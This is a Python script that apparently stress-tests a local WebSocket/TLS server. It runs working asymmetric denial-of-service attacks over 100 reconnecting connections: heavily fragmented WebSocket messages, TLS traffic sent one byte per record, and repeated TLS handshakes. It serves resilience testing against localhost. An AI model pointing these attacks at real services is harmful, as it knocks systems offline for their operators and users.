"""Asymmetric attacks, cheap for the client and costly for the server: ``pieces.py KIND SECONDS PORT``.

Kinds: ``fragments``, messages with almost the permitted number of empty fragments; ``records``, a message in
TLS with one byte per record; ``handshakes``, TLS connections closed after the handshake. Each of
CONNECTIONS sends as fast as possible and reconnects when closed. Prints the number of connections.
"""

from __future__ import annotations

import selectors
import socket
import ssl
import sys
import time
from typing import Final

CONNECTIONS: Final = 100
RECORDS: Final = 700  # per write
UPGRADE: Final = (
    b"GET /v1/stream HTTP/1.1\r\nHost: localhost\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
    b"Sec-WebSocket-Key: MDEyMzQ1Njc4OWFiY2RlZg==\r\nSec-WebSocket-Version: 13\r\n\r\n"
)
CONTEXT: Final = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
CONTEXT.check_hostname, CONTEXT.verify_mode = False, ssl.CERT_NONE
MASK: Final = b"\0\0\0\0"
PING: Final = b'{"action":"ping"}'
# RFC 6455, section 5.2: a text frame without FIN, empty continuations, one with FIN.
FRAGMENTS: Final = b"\x01\x81" + MASK + PING[:1] + (b"\x00\x80" + MASK) * 980 + b"\x80\x90" + MASK + PING[1:]
LONG: Final = b"\x81\xff" + (200_000).to_bytes(8, "big") + MASK


class Peer:
    """One connection and its unsent bytes."""

    def __init__(self, kind: str, port: int) -> None:
        self._kind = kind
        self._tls: ssl.SSLObject | None = None
        self._outgoing = ssl.MemoryBIO()
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=10)
        if kind != "fragments":
            self._shake_hands()
        if kind == "handshakes":
            self._left = b""
        else:
            self.sock.sendall(self._wire(UPGRADE))
            self.sock.recv(65536)
            self._left = b"" if self._tls is None else self._wire(LONG)
        self.sock.setblocking(False)

    def _shake_hands(self) -> None:
        incoming = ssl.MemoryBIO()
        self._tls = CONTEXT.wrap_bio(incoming, self._outgoing)
        while True:
            try:
                self._tls.do_handshake()
                break
            except ssl.SSLWantReadError:
                self.sock.sendall(self._outgoing.read())
                incoming.write(self.sock.recv(65536))
        self.sock.sendall(self._outgoing.read())

    def _wire(self, data: bytes, record: int = 1 << 14) -> bytes:
        if self._tls is None:
            return data
        for start in range(0, len(data), record):
            self._tls.write(data[start : start + record])
        return self._outgoing.read()

    def go_on(self) -> bool:
        """Send more; False once all is sent."""
        if self._kind == "handshakes":
            return False
        if not self._left:
            self._left = FRAGMENTS if self._tls is None else self._wire(b" " * RECORDS, 1)
        self._left = self._left[self.sock.send(self._left[:65536]) :]
        return True


def main(kind: str, seconds: float, port: int) -> int:
    selector, made = selectors.DefaultSelector(), 0

    def begin() -> None:
        nonlocal made
        made += 1
        peer = Peer(kind, port)
        selector.register(peer.sock, selectors.EVENT_WRITE | selectors.EVENT_READ, peer)

    until = time.monotonic() + seconds
    for _ in range(CONNECTIONS):
        begin()
    while time.monotonic() < until:
        for key, events in selector.select(0.1):
            peer: Peer = key.data
            try:
                going = not events & selectors.EVENT_READ or bool(peer.sock.recv(65536))
                going = going and (not events & selectors.EVENT_WRITE or peer.go_on())
            except BlockingIOError:
                continue
            except OSError:
                going = False
            if not going:
                selector.unregister(peer.sock)
                peer.sock.close()
                begin()
    return made


if __name__ == "__main__":
    print(main(sys.argv[1], float(sys.argv[2]), int(sys.argv[3])))
